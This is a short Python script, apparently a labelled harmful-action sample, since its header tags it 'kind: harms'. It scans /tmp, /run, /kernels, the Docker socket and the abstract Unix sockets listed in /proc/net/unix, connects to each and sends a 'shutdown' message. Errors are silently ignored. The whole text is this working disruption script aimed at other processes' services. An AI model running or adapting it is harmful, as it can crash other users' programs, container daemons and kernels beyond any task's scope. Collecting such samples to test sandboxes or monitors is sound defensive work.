# where: first
# kind: harms
# does: Sockets of others, with and without a name in the file system, are connected to and sent a shutdown.
import glob
import socket

names = glob.glob("/tmp/**/*", recursive=True)[:5000] + glob.glob("/run/**/*", recursive=True)[:5000]
names += glob.glob("/kernels/**/*", recursive=True) + ["/var/run/docker.sock"]
try:
    names += ["\0" + line.split("@")[1].strip() for line in open("/proc/net/unix") if "@" in line]
except Exception as error:
    print(error)
for name in names:
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(0.5)
            sock.connect(name)
            sock.sendall(b"shutdown\n")
            print(name, sock.recv(100))
    except Exception:
        pass
